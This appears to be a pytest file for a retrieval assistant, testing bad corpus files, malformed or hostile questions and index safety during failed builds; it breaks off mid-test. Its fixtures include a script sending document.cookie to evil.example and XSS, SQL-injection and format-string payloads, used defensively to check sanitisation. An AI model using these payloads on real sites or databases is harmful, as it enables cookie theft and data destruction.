"""Bad documents, bad questions, faults half-way through a build, and security promises.

Everything here uses the fake embedder (fast, deterministic); the load test with the real
model and the real server is tests/test_load.py.

Unreadable files: the tests run as root here (and in CI), where `chmod 000` does not stop a
read. In-process, a root run simulates the refusal by making `open` raise PermissionError for
that one file; the CLI run drops root's DAC capabilities with `setpriv` so the kernel really
refuses the read (a non-root run just uses chmod 000).
"""

from __future__ import annotations

import contextlib
import errno
import functools
import json
import os
import pickle
import re
import shutil
import struct
import subprocess
import sys
import threading
import time
import tracemalloc
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from assistant.answer import Assistant
from assistant.build import build_index, check_index
from assistant.ingest.corpus import MAX_DOC_BYTES, decode, load_corpus, scan_corpus
from assistant.errors import AssistantError, BuildFailedError, CorruptIndexError, EmptyQuestionError
from assistant.store.index import load_index, read_manifest
from assistant.records import Answer
from tests.conftest import REPO, FakeEmbedder

GOOD_DOCS = {
    "chatham-house-playing-both-sides",
    "kazakhstan-uzbekistan-sovereignty-test",
    "putin-strengthens-ties-central-asia",
    "tokayev-c5-regional-security",
    "valdai-central-asia-russia-new-horizons",
}
PUTIN = "corpus/putin-strengthens-ties-central-asia.txt"
HANG_BOUND = 120.0  # seconds: only a guard against a hang, never a speed assertion

RUSSIAN = (
    "Россия и Казахстан подписали соглашение о сотрудничестве в области энергетики.\n\n"
    "Президент Токаев встретился с Путиным в Астане и обсудил строительство нового газопровода "
    "через степь. Стороны договорились об увеличении поставок зерна в Узбекистан."
)
FRENCH = (
    "Le président du Kazakhstan a rencontré ses homologues à Astana pour parler de sécurité régionale.\n\n"
    "La coopération énergétique était à l'ordre du jour : les ministres ont évoqué un nouvel "
    "oléoduc vers la mer Caspienne, déclaré très important pour l'économie."
)
GERMAN = (
    "Die Außenpolitik Kasachstans ist vielschichtig und gilt als Balanceakt zwischen den Großmächten.\n\n"
    "Präsident Tokajew betonte in Astana die Größe der Märkte, die Bedeutung der Seidenstraße "
    "und die Schönheit der Steppe für künftige Touristen."
)
SCRIPTED_HTML = """<!doctype html><html><head><title>Pipeline news</title>
<style>body { color: red; } .secretstyle { display: none }</style>
<script>document.write("injected"); alert("xss-payload-1");</script></head>
<body><nav>Home | World | Asia</nav>
<article><h1>Turkmenistan opens a gas pipeline to Kazakhstan</h1>
<p>Turkmenistan opened a new gas pipeline to the Kazakh port of Aktau on Monday, officials said,
in a move that strengthens energy links across the Caspian region.</p>
<script type="text/javascript">fetch("https://evil.example/steal?c=" + document.cookie)</script>
<p>The pipeline will carry ten billion cubic metres a year, according to the ministry of energy,
and is expected to reduce dependence on Russian transit routes for the next decade.</p>
<style>p { font-size: 99px }</style>
</article></body></html>
"""
ONLY_SCRIPTS_HTML = "<html><head><script>alert(1)</script><style>p{}</style></head><body><p>Share on Facebook</p></body></html>"


def _png(width: int = 8, height: int = 8) -> bytes:
    """A real, valid PNG image (red square), built with zlib."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + bytes([255, 0, 0] * width) for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


# --------------------------------------------------------------------------- unreadable files


@functools.lru_cache(maxsize=1)
def _unprivileged_prefix() -> tuple[str, ...] | None:
    """Command prefix under which a 000 file really cannot be read (None: not possible here)."""
    if os.geteuid() != 0:
        return ()
    setpriv = shutil.which("setpriv")
    if not setpriv:
        return None
    prefix = (
        setpriv,
        "--inh-caps=-dac_override,-dac_read_search",
        "--bounding-set=-dac_override,-dac_read_search",
    )
    probe = Path(os.environ.get("TMPDIR", "/tmp")) / f"assistant-probe-{os.getpid()}"
    try:
        probe.write_text("x")
        probe.chmod(0)
        result = subprocess.run([*prefix, sys.executable, "-c", f"open({str(probe)!r}).read()"], capture_output=True)
        return prefix if result.returncode != 0 and b"PermissionError" in result.stderr else None
    except OSError:
        return None
    finally:
        probe.unlink(missing_ok=True)


def _deny_read(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """chmod 000, and (as root, where that does not stop reads) make open() refuse this file."""
    path.chmod(0)
    if os.geteuid() != 0:
        return
    import builtins

    real_open = builtins.open
    denied = os.path.realpath(path)

    def guarded_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        if isinstance(file, (str, os.PathLike)) and os.path.realpath(file) == denied:
            raise PermissionError(errno.EACCES, "Permission denied", str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", guarded_open)


# --------------------------------------------------------------------------- bad corpus


BAD_FILES: dict[str, str | None] = {
    # name -> expected reason in the warning (None: decoded and indexed)
    "empty.txt": "empty file",
    "blank-lines.md": "empty file",
    "picture.txt": "binary file (PNG image), not text",
    "russian-cp1251.txt": None,
    "french-latin1.txt": None,
    "german-latin1.md": None,
    "huge-dump.txt": "too large (50 MB; the limit is 10 MB)",
    "scripted.html": None,
    "only-scripts.html": "no article text left after cleaning",
    "outside-link.txt": "symbolic link pointing outside the corpus folder",
    "broken-link.txt": "broken symbolic link",
    "locked.txt": "no permission to read it",
    "putin-copy.txt": f"same content as {PUTIN}",
    "putin-crlf-copy.txt": f"same content as {PUTIN}",
}
DECODED_DOCS = {"russian-cp1251", "french-latin1", "german-latin1", "scripted"}


def add_bad_files(corpus: Path, outside: Path, monkeypatch: pytest.MonkeyPatch | None) -> None:
    """Put every kind of bad file into `corpus` (links lead to `outside`)."""
    outside.mkdir(exist_ok=True)
    (outside / "secret.txt").write_text("The secret outside text mentions Kazakhstan and a hidden passphrase zebra-42.\n" * 3)
    (outside / "folder").mkdir(exist_ok=True)
    (outside / "folder" / "secret-in-folder.txt").write_text("Another secret about Tajikistan, passphrase okapi-17, for no one.\n" * 3)
    (corpus / "empty.txt").write_bytes(b"")
    (corpus / "blank-lines.md").write_bytes(b"\n  \n\t\r\n")
    (corpus / "picture.txt").write_bytes(_png())
    (corpus / "russian-cp1251.txt").write_bytes(RUSSIAN.encode("cp1251"))
    (corpus / "french-latin1.txt").write_bytes(FRENCH.encode("latin-1"))
    (corpus / "german-latin1.md").write_bytes(("# Kasachstans Außenpolitik\n\n" + GERMAN).encode("latin-1"))
    with open(corpus / "huge-dump.txt", "wb") as handle:  # 50 MB, sparse: cheap on disk
        handle.write(b"Kazakhstan log line\n" * 100)
        handle.truncate(50 * 1024 * 1024)
    (corpus / "scripted.html").write_text(SCRIPTED_HTML, encoding="utf-8")
    (corpus / "only-scripts.html").write_text(ONLY_SCRIPTS_HTML, encoding="utf-8")
    (corpus / "outside-link.txt").symlink_to(outside / "secret.txt")
    (corpus / "broken-link.txt").symlink_to(outside / "does-not-exist.txt")
    (corpus / "linked-folder").symlink_to(outside / "folder", target_is_directory=True)
    (corpus / "locked.txt").write_text("Locked article about Kyrgyzstan and the passphrase lynx-99.\n" * 3)
    original = (corpus / "putin-strengthens-ties-central-asia.txt").read_bytes()
    (corpus / "putin-copy.txt").write_bytes(original)
    (corpus / "putin-crlf-copy.txt").write_bytes(original.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
    later = time.time() + 60  # copies are newer than the article they copy
    for name in ("putin-copy.txt", "putin-crlf-copy.txt"):
        os.utime(corpus / name, (later, later))
    if monkeypatch is not None:
        _deny_read(corpus / "locked.txt", monkeypatch)
    else:
        (corpus / "locked.txt").chmod(0)


def _probe_questions(settings) -> dict[str, str]:  # type: ignore[no-untyped-def]
    """One question per good document: its longest passage sentence, asked verbatim."""
    index = load_index(settings.index_dir)
    questions: dict[str, str] = {}
    for doc_id in GOOD_DOCS:
        text = index.documents[doc_id].text
        sentences = [s.strip() for s in text.replace("\n", ". ").split(". ") if len(s.split()) >= 8]
        questions[doc_id] = max(sentences, key=len)[:300]
    return questions


def _assert_answerable(settings, embedder, questions: dict[str, str]) -> None:  # type: ignore[no-untyped-def]
    """Each good document is still found by a server holding the index now on disk."""
    bot = Assistant(settings, embedder, load_index(settings.index_dir))
    for doc_id, question in questions.items():
        answer = bot.ask(question, k=5)
        assert doc_id in [p.doc_id for p in answer.passages[:3]], (doc_id, question)


@pytest.fixture
def built(settings, fake_embedder):  # type: ignore[no-untyped-def]
    """The good corpus, built once; returns the probe question per document."""
    build_index(settings, fake_embedder)
    return _probe_questions(settings)


@pytest.mark.parametrize("name", sorted(BAD_FILES))
def test_each_bad_file_is_handled(name: str, settings, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    add_bad_files(settings.corpus_dir, tmp_path / "outside", monkeypatch)
    scan = scan_corpus(settings.corpus_dir)
    documents = {d.source: d for d in load_corpus(scan)}
    source = f"corpus/{name}"
    warnings = [w for w in scan.warnings() if w.startswith(f"skipped {source}:")]
    expected = BAD_FILES[name]
    if expected is None:
        assert source in documents and not warnings
    else:
        assert source not in documents
        assert warnings == [f"skipped {source}: {expected}"]


def test_bad_files_never_cost_the_index(built, settings, fake_embedder, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    before = read_manifest(settings.index_dir)
    add_bad_files(settings.corpus_dir, tmp_path / "outside", monkeypatch)
    report = build_index(settings, fake_embedder)
    # every bad file is named once, with its reason
    expected = {f"skipped corpus/{n}: {r}" for n, r in BAD_FILES.items() if r is not None}
    assert set(report.skipped) == expected and len(report.skipped) == len(expected)
    index = load_index(settings.index_dir)
    assert set(index.documents) == GOOD_DOCS | DECODED_DOCS
    assert report.docs_added == len(DECODED_DOCS) and report.docs_unchanged == len(GOOD_DOCS)
    assert index.manifest.generation != before.generation
    for chunk in index.chunks:
        for secret in ("zebra-42", "okapi-17", "lynx-99", "xss-payload", "document.cookie", "font-size"):
            assert secret not in chunk.text
    # the article and its copies: indexed once, under the original's name
    putin = [c for c in index.chunks if "Astana" in c.text and "Putin" in c.text]
    assert putin and {c.doc_id for c in putin} == {"putin-strengthens-ties-central-asia"}
    _assert_answerable(settings, fake_embedder, built)
    # nothing left stale: the next build has nothing to do, and the app would not rebuild
    assert check_index(settings, fake_embedder) == []
    again = build_index(settings, fake_embedder)
    assert again.up_to_date and set(again.skipped) == expected - {
        "skipped corpus/only-scripts.html: no article text left after cleaning"
    }


def test_corpus_of_only_bad_files_keeps_the_old_index(built, settings, fake_embedder, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    before = read_manifest(settings.index_dir).generation
    add_bad_files(settings.corpus_dir, tmp_path / "outside", monkeypatch)
    for path in list(settings.corpus_dir.glob("*.*")):  # keep only what cannot be indexed
        reason = BAD_FILES.get(path.name)
        if path.suffix != ".json" and (reason is None or reason.startswith("same content")):
            path.unlink()
    with pytest.raises(AssistantError, match="no readable article"):
        build_index(settings, fake_embedder)
    assert read_manifest(settings.index_dir).generation == before
    _assert_answerable(settings, fake_embedder, built)


@pytest.mark.parametrize(
    "name,words",
    [
        ("russian-cp1251.txt", ["Россия", "Казахстан", "Президент", "газопровода", "Узбекистан"]),
        ("french-latin1.txt", ["président", "sécurité", "à Astana", "coopération", "énergétique", "déclaré"]),
        ("german-latin1.md", ["Außenpolitik", "Großmächten", "Präsident", "Größe", "Schönheit", "künftige"]),
    ],
)
def test_legacy_encodings_are_decoded(name: str, words: list[str], corpus_copy: Path, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    add_bad_files(corpus_copy, tmp_path / "outside", monkeypatch)
    doc = next(d for d in load_corpus(scan_corpus(corpus_copy)) if d.source == f"corpus/{name}")
    for word in words:
        assert word in doc.text, (word, doc.text[:200])
    assert "\ufffd" not in doc.text


@pytest.mark.parametrize(
    "text,encoding",
    [
        (RUSSIAN, "cp1251"),
        (RUSSIAN, "koi8_r"),
        ("Привет, мир", "cp1251"),
        (FRENCH, "latin-1"),
        (FRENCH, "cp1252"),
        (GERMAN, "latin-1"),
        ("Café Müller", "latin-1"),
        ("“Smart quotes” – and a 5 € fee", "cp1252"),
        ("Współpraca między Polską a Kazachstanem rozwija się szybko.", "cp1250"),
        ("Ціни в Україні зросли, а ґанок є.", "cp1251"),
        ("Plain ASCII stays plain.", "ascii"),
        ("UTF-8 with a BOM: Астана", "utf-8-sig"),
        ("UTF-16 with a BOM: Астана", "utf-16"),
    ],
)
def test_decode_round_trips(text: str, encoding: str) -> None:
    assert decode(text.encode(encoding)) == text


def test_scripts_and_styles_never_reach_the_text(corpus_copy: Path, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    add_bad_files(corpus_copy, tmp_path / "outside", monkeypatch)
    doc = next(d for d in load_corpus(scan_corpus(corpus_copy)) if d.source == "corpus/scripted.html")
    assert "Turkmenistan opened a new gas pipeline" in doc.text
    assert "ten billion cubic metres" in doc.text
    for payload in ("alert", "document.write", "fetch(", "color: red", "font-size", "secretstyle", "<", ">"):
        assert payload not in doc.text, payload


def test_huge_file_is_not_read_into_memory(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    with open(corpus / "huge.txt", "wb") as handle:
        handle.write(b"text " * 1000)
        handle.truncate(50 * 1024 * 1024)
    (corpus / "just-over.txt").write_bytes(b"word " * (MAX_DOC_BYTES // 5) + b"!")
    tracemalloc.start()
    try:
        scan = scan_corpus(corpus)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [f.skip_reason for f in scan.files] == [
        "too large (50 MB; the limit is 10 MB)",
        "too large (10 MB; the limit is 10 MB)",
    ]
    assert peak < 2 * 1024 * 1024, f"scanning allocated {peak:,} bytes"


def test_symlinked_folder_outside_is_not_followed(corpus_copy: Path, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    add_bad_files(corpus_copy, tmp_path / "outside", monkeypatch)
    scan = scan_corpus(corpus_copy)
    assert not any("secret-in-folder" in f.source and f in scan.usable for f in scan.files)
    assert all(Path(f.path).resolve().is_relative_to(corpus_copy.resolve()) for f in scan.usable)


def test_symlink_inside_the_corpus_is_a_duplicate(corpus_copy: Path) -> None:
    (corpus_copy / "zz-alias.txt").symlink_to(corpus_copy / "putin-strengthens-ties-central-asia.txt")
    scan = scan_corpus(corpus_copy)
    assert scan.warnings() == [f"skipped corpus/zz-alias.txt: same content as {PUTIN}"]


def test_duplicates_keep_the_original_name_whatever_the_order(corpus_copy: Path) -> None:
    original = corpus_copy / "tokayev-c5-regional-security.txt"
    copy = corpus_copy / "a-copy-sorted-first.txt"
    copy.write_bytes(original.read_bytes())
    later = original.stat().st_mtime + 60
    os.utime(copy, (later, later))
    docs = load_corpus(scan := scan_corpus(corpus_copy))
    assert scan.warnings() == ["skipped corpus/a-copy-sorted-first.txt: same content as corpus/tokayev-c5-regional-security.txt"]
    assert sorted(d.doc_id for d in docs) == sorted(GOOD_DOCS)


@pytest.mark.skipif(_unprivileged_prefix() is None, reason="cannot drop root's read override here (no setpriv)")
def test_unreadable_file_for_real(corpus_copy: Path) -> None:
    """chmod 000 with the kernel enforcing it: as root, in a process without CAP_DAC_OVERRIDE."""
    locked = corpus_copy / "locked.txt"
    locked.write_text("Locked article about Kyrgyzstan.\n")
    locked.chmod(0)
    code = (
        "from pathlib import Path; from assistant.ingest.corpus import scan_corpus; "
        f"print('\\n'.join(scan_corpus(Path({str(corpus_copy)!r})).warnings()))"
    )
    result = subprocess.run(
        [*(_unprivileged_prefix() or ()), sys.executable, "-c", code], capture_output=True, text=True, cwd=REPO
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "skipped corpus/locked.txt: no permission to read it"


# --------------------------------------------------------------------------- the CLI, for real

RUNNER = """
import os, sys
sys.path.insert(0, {repo!r})
from tests.conftest import FakeEmbedder
import assistant.answer

class Failing(FakeEmbedder):
    def encode(self, texts, *, progress=False):
        raise RuntimeError("injected embedding failure")

assistant.answer.make_embedder = lambda settings: Failing() if os.environ.get("FAIL_EMBEDDING") else FakeEmbedder()
from assistant.app.cli import main
sys.argv[0] = "assistant"
main()
"""


@pytest.fixture
def cli_runner(tmp_path: Path, settings) -> Callable[..., subprocess.CompletedProcess[str]]:  # type: ignore[no-untyped-def]
    """Run `assistant ...` in a real process with the fake embedder (optionally unprivileged)."""
    script = tmp_path / "run_assistant.py"
    script.write_text(RUNNER.format(repo=str(REPO)))

    def run(*args: str | bytes, env: dict[str, str] | None = None, unprivileged: bool = False) -> subprocess.CompletedProcess[str]:
        prefix = _unprivileged_prefix() if unprivileged else ()
        full_env = {
            **os.environ,
            "ASSISTANT_CORPUS_DIR": str(settings.corpus_dir),
            "ASSISTANT_INDEX_DIR": str(settings.index_dir),
            "PYTHONIOENCODING": "utf-8",
            **(env or {}),
        }
        return subprocess.run(
            [*(prefix or ()), sys.executable, str(script), *args],
            capture_output=True, text=True, env=full_env, cwd=REPO, timeout=HANG_BOUND,
        )

    return run


def test_cli_build_names_every_bad_file(cli_runner, settings, fake_embedder, tmp_path) -> None:  # type: ignore[no-untyped-def]
    assert cli_runner("build").returncode == 0
    questions = _probe_questions(settings)
    real_lock = _unprivileged_prefix() is not None
    add_bad_files(settings.corpus_dir, tmp_path / "outside", None)
    result = cli_runner("build", unprivileged=real_lock)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning: ")]
    for name, reason in BAD_FILES.items():
        if reason is None or (name == "locked.txt" and not real_lock):
            continue
        assert f"warning: skipped corpus/{name}: {reason}" in warnings, name
    assert "4 added" in result.stdout and "5 unchanged" in result.stdout
    _assert_answerable(settings, fake_embedder, questions)


def test_cli_names_each_bad_file_once(cli_runner, settings, tmp_path) -> None:  # type: ignore[no-untyped-def]
    add_bad_files(settings.corpus_dir, tmp_path / "outside", None)
    result = cli_runner("build")
    assert result.returncode == 0
    for name in ("empty.txt", "picture.txt", "putin-copy.txt"):
        assert sum(f"corpus/{name}" in line for line in result.stderr.splitlines()) == 1, result.stderr


# --------------------------------------------------------------------------- bad questions

LONG = ("Where did Putin celebrate the alliance between Russia and Kazakhstan in Astana? " * 1300)[:100_000]
QUESTIONS: list[tuple[str, str, str]] = [
    # (id, question, "answer" | "empty")
    ("empty", "", "empty"),
    ("white-space", "  \n\t\r\n  ", "empty"),
    ("punctuation", "?!?... ,;: -- ()[]{}", "empty"),
    ("unicode-punctuation", "¿¡…—“”«»", "empty"),
    ("emoji-only", "😀🎉🇰🇿👍🏽", "empty"),
    ("emoji-zwj", "👩\u200d💻\u200b", "empty"),
    ("control-only", "\x00\x01\x1b\x7f\x9f", "empty"),
    ("nul-and-control", "Putin\x00 Astana\x07 \x1b[31malliance\x1b[0m\x00", "answer"),
    ("100k-characters", LONG, "answer"),
    ("100k-no-spaces", "Kazakhstan" * 10_000, "answer"),
    ("html-js", "<script>alert(1)</script> Putin", "answer"),
    ("html-img", '<img src=x onerror="alert(2)"> Tokayev security', "answer"),
    ("sql", "' OR 1=1; DROP TABLE documents; -- Uzbekistan", "answer"),
    ("format-string", "{0} %s %(x)s {__class__} Tajikistan", "answer"),
    ("russian", "Где Путин праздновал союз России и Казахстана?", "answer"),
    ("chinese", "普京在哪里庆祝俄罗斯和哈萨克斯坦的联盟？", "answer"),
    ("arabic", "أين احتفل بوتين بالتحالف؟", "answer"),
    ("emoji-and-words", "🇰🇿 Kazakhstan 🤝 Russia?", "answer"),
    ("lone-surrogate", "Putin \ud800 Astana", "answer"),
    ("mojibake", "Whatâ€™s Tajikistanâ€™s main security concern?", "answer"),
]


@pytest.fixture(scope="module")
def fake_assistant(tmp_path_factory: pytest.TempPathFactory) -> Assistant:
    from assistant.settings import Settings

    root = tmp_path_factory.mktemp("questions")
    shutil.copytree(REPO / "corpus", root / "corpus")
    settings = Settings().replace(corpus_dir=root / "corpus", index_dir=root / "index")
    embedder = FakeEmbedder()
    build_index(settings, embedder)
    return Assistant.load(settings, embedder=embedder, rebuild=False)


def _guarded(fn: Callable[[], Any]) -> Any:
    """Run fn in a thread; fail if it has not returned after HANG_BOUND seconds (a hang)."""
    box: dict[str, Any] = {}

    def run() -> None:
        try:
            box["value"] = fn()
        except BaseException as exc:  # re-raised below, in the test's thread
            box["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(HANG_BOUND)
    assert not thread.is_alive(), f"no reply after {HANG_BOUND:.0f} s: hung"
    if "error" in box:
        raise box["error"]
    return box["value"]


@pytest.mark.parametrize("qid,question,kind", QUESTIONS, ids=[q[0] for q in QUESTIONS])
def test_bad_question_through_assistant(fake_assistant: Assistant, qid: str, question: str, kind: str) -> None:
    from assistant.app.web import render_answer

    if kind == "empty":
        with pytest.raises(EmptyQuestionError, match="Please type a question with at least one word"):
            _guarded(lambda: fake_assistant.ask(question))
        return
    answer = _guarded(lambda: fake_assistant.ask(question))
    assert isinstance(answer, Answer) and answer.passages
    searched = answer.resolved_question or ""
    assert searched.strip() and not any(ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in searched)
    assert not any(0xD800 <= ord(ch) <= 0xDFFF for ch in searched)
    assert len(searched) <= fake_assistant.settings.max_question_chars
    from assistant.limits import OTHER_LANGUAGE_NOTICE

    if len(question) > fake_assistant.settings.max_question_chars:
        assert any("only its first" in n for n in answer.notices), answer.notices
    elif qid in ("chinese", "arabic"):  # searched all the same, with a note naming the languages it reads
        assert answer.notices == (OTHER_LANGUAGE_NOTICE,)
    else:
        assert not answer.notices
    json.dumps(answer.to_json())  # serialisable for the API
    page = render_answer(answer)
    assert "<script" not in page and "<img" not in page


@pytest.mark.parametrize("qid,question,kind", QUESTIONS, ids=[q[0] for q in QUESTIONS])
def test_bad_question_through_cli(fake_assistant: Assistant, monkeypatch, qid: str, question: str, kind: str) -> None:  # type: ignore[no-untyped-def]
    from click.testing import CliRunner

    import assistant.answer as answer_module
    from assistant.app.cli import cli

    monkeypatch.setattr(answer_module, "make_embedder", lambda s: fake_assistant.embedder)
    monkeypatch.setenv("ASSISTANT_CORPUS_DIR", str(fake_assistant.settings.corpus_dir))
    monkeypatch.setenv("ASSISTANT_INDEX_DIR", str(fake_assistant.settings.index_dir))
    result = _guarded(lambda: CliRunner().invoke(cli, ["ask", question, "--no-rebuild"]))
    assert "Traceback" not in result.output
    if kind == "empty":
        assert result.exit_code == 1
        assert result.output.strip() == "error: Please type a question with at least one word or number."
    else:
        assert result.exit_code == 0, (result.output, result.exception)
        assert "[1]" in result.output
        if len(question) > fake_assistant.settings.max_question_chars:
            assert result.output.startswith("note: Your question was")


def test_invalid_utf8_argument_through_the_real_cli(cli_runner) -> None:  # type: ignore[no-untyped-def]
    assert cli_runner("build").returncode == 0
    result = cli_runner(os.fsdecode(b"ask"), os.fsdecode(b"Putin \xff\xfe Astana"), "--json")
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert json.loads(result.stdout)["passages"]


# --------------------------------------------------------------------------- faults mid-build


class _FailingEmbedder(FakeEmbedder):
    def __init__(self, error: BaseException) -> None:
        super().__init__()
        self.error = error

    def encode(self, texts, *, progress: bool = False):  # type: ignore[no-untyped-def]
        raise self.error


def _add_article(corpus: Path) -> None:
    (corpus / "new-aktau-pipeline.md").write_text(
        "# Aktau pipeline\n\nTurkmenistan and Kazakhstan agreed on a new pipeline to Aktau in 2026, "
        "with a capacity of ten billion cubic metres a year.\n",
        encoding="utf-8",
    )


def _assert_old_index_served(settings, embedder, generation: str, questions: dict[str, str]) -> None:  # type: ignore[no-untyped-def]
    assert read_manifest(settings.index_dir).generation == generation
    assert load_index(settings.index_dir).manifest.generation == generation
    assert not list(settings.index_dir.glob(".tmp-*")), "half-written generation left behind"
    _assert_answerable(settings, embedder, questions)


@pytest.mark.parametrize(
    "error",
    [RuntimeError("CUDA out of memory"), MemoryError(), ValueError("bad tensor shape")],
    ids=["runtime-error", "memory-error", "value-error"],
)
def test_embedding_failure_keeps_the_old_index(built, settings, fake_embedder, error: BaseException) -> None:  # type: ignore[no-untyped-def]
    generation = read_manifest(settings.index_dir).generation
    bot = Assistant.load(settings, embedder=fake_embedder, rebuild=False)
    _add_article(settings.corpus_dir)
    with pytest.raises(BuildFailedError) as caught:
        build_index(settings, _FailingEmbedder(error))
    message = str(caught.value)
    assert "previous index is still in use" in message and "\n" not in message
    assert message.count(". ") == 0  # one sentence
    _assert_old_index_served(settings, fake_embedder, generation, built)
    assert bot.ask("Aktau pipeline capacity").passages  # the running assistant still answers
    assert not bot.reload_if_changed()


def test_interrupted_build_keeps_the_old_index(built, settings, fake_embedder) -> None:  # type: ignore[no-untyped-def]
    generation = read_manifest(settings.index_dir).generation
    _add_article(settings.corpus_dir)
    with pytest.raises(KeyboardInterrupt):
        build_index(settings, _FailingEmbedder(KeyboardInterrupt()))
    _assert_old_index_served(settings, fake_embedder, generation, built)


def test_embedding_failure_through_the_cli(cli_runner, settings, fake_embedder) -> None:  # type: ignore[no-untyped-def]
    assert cli_runner("build").returncode == 0
    generation = read_manifest(settings.index_dir).generation
    questions = _probe_questions(settings)
    _add_article(settings.corpus_dir)
    result = cli_runner("build", env={"FAIL_EMBEDDING": "1"})
    assert result.returncode == 1
    assert result.stderr.strip().splitlines() == [
        "error: embedding failed (RuntimeError: injected embedding failure); the previous index is still in use"
    ]
    _assert_old_index_served(settings, fake_embedder, generation, questions)


def test_full_disk_by_patched_write(built, settings, fake_embedder, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """Every write into a new generation fails with ENOSPC (as on a full disk)."""
    generation = read_manifest(settings.index_dir).generation
    _add_article(settings.corpus_dir)
    with monkeypatch.context() as patch:
        _full_disk(patch, settings.index_dir)
        with pytest.raises(BuildFailedError) as caught:
            build_index(settings, fake_embedder)
    assert re.fullmatch(
        r"writing the index (to \S+ )?failed \(No space left on device\); the previous index is still in use",
        str(caught.value),
    ), str(caught.value)
    _assert_old_index_served(settings, fake_embedder, generation, built)


def _full_disk(monkeypatch: pytest.MonkeyPatch, index_dir: Path) -> None:
    """From now on, every write into `index_dir` fails with ENOSPC (as on a full disk)."""
    import builtins

    real_open = builtins.open
    root = os.path.realpath(index_dir)

    def full_disk_open(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        path = os.path.realpath(file) if isinstance(file, (str, os.PathLike)) else ""
        if path.startswith(root) and any(c in mode for c in "wax+") and not path.endswith(".build.lock"):
            raise OSError(errno.ENOSPC, "No space left on device", str(file))
        return real_open(file, mode, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", full_disk_open)


def test_start_with_a_failing_rebuild_serves_the_old_index(built, settings, fake_embedder, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    generation = read_manifest(settings.index_dir).generation
    _add_article(settings.corpus_dir)
    _full_disk(monkeypatch, settings.index_dir)
    notes: list[str] = []
    bot = Assistant.load(settings, embedder=fake_embedder, rebuild=True, notify=notes.append)
    assert bot.index.manifest.generation == generation
    assert any("No space left on device" in n for n in notes), notes
    assert bot.ask("Where did Putin celebrate the alliance?").passages


@contextlib.contextmanager
def _tmpfs(folder: Path, size: int) -> Iterator[bool]:
    """A tmpfs of `size` bytes mounted on `folder` (yields False where mounting is not allowed)."""
    folder.mkdir(parents=True, exist_ok=True)
    if os.geteuid() != 0 or not shutil.which("mount"):
        yield False
        return
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size},mode=0700", "tmpfs", str(folder)], capture_output=True
    )
    if mounted.returncode != 0:
        yield False
        return
    try:
        yield True
    finally:
        subprocess.run(["umount", "-l", str(folder)], capture_output=True)


def _used(folder: Path) -> int:
    st = os.statvfs(folder)
    return (st.f_blocks - st.f_bfree) * st.f_frsize


FRACTIONS = (0.05, 0.3, 0.6, 0.9, 0.98)  # of a new generation that still fits on the disk


@contextlib.contextmanager
def _nearly_full_disk(settings, embedder) -> Iterator[tuple[Any, Callable[[float], None], dict[str, str]]]:  # type: ignore[no-untyped-def]
    """A built index on a tmpfs, and a function that shrinks the tmpfs to leave `fraction` of a generation free."""
    mount_point = settings.index_dir.parent / "tiny"
    with _tmpfs(mount_point, 16 * 1024 * 1024) as mounted:
        if not mounted:
            pytest.skip("cannot mount a tmpfs here (needs root and CAP_SYS_ADMIN); the patched-write test covers it")
        tiny = settings.replace(index_dir=mount_point / "index")
        build_index(tiny, embedder)
        generation = read_manifest(tiny.index_dir).generation
        used = _used(mount_point)
        one_generation = sum(
            -(-p.stat().st_size // 4096) * 4096 for p in (tiny.index_dir / generation).rglob("*") if p.is_file()
        )

        def leave(fraction: float) -> None:
            size = -(-int(used + fraction * one_generation) // 4096) * 4096
            subprocess.run(["mount", "-o", f"remount,size={size}", str(mount_point)], check=True)

        _add_article(settings.corpus_dir)
        yield tiny, leave, {"generation": generation, "used": str(used)}


@pytest.mark.parametrize("fraction", FRACTIONS)
def test_full_disk_on_a_tiny_filesystem(settings, fake_embedder, fraction: float) -> None:  # type: ignore[no-untyped-def]
    """A real full disk: the index lives on a tmpfs with room for only part of a new generation."""
    with _nearly_full_disk(settings, fake_embedder) as (tiny, leave, before):
        questions = _probe_questions(tiny)
        leave(fraction)
        with pytest.raises(BuildFailedError) as caught:
            build_index(tiny, fake_embedder)
        message = str(caught.value)
        assert message.startswith("writing the index") and message.endswith("the previous index is still in use")
        assert "\n" not in message
        _assert_old_index_served(tiny, fake_embedder, before["generation"], questions)
        assert _used(tiny.index_dir.parent) <= int(before["used"]) + 4096, "the failed build left files behind"


def test_full_disk_message_names_the_cause(settings, fake_embedder) -> None:  # type: ignore[no-untyped-def]
    messages = []
    with _nearly_full_disk(settings, fake_embedder) as (tiny, leave, _before):
        for fraction in FRACTIONS:
            leave(fraction)
            with pytest.raises(BuildFailedError) as caught:
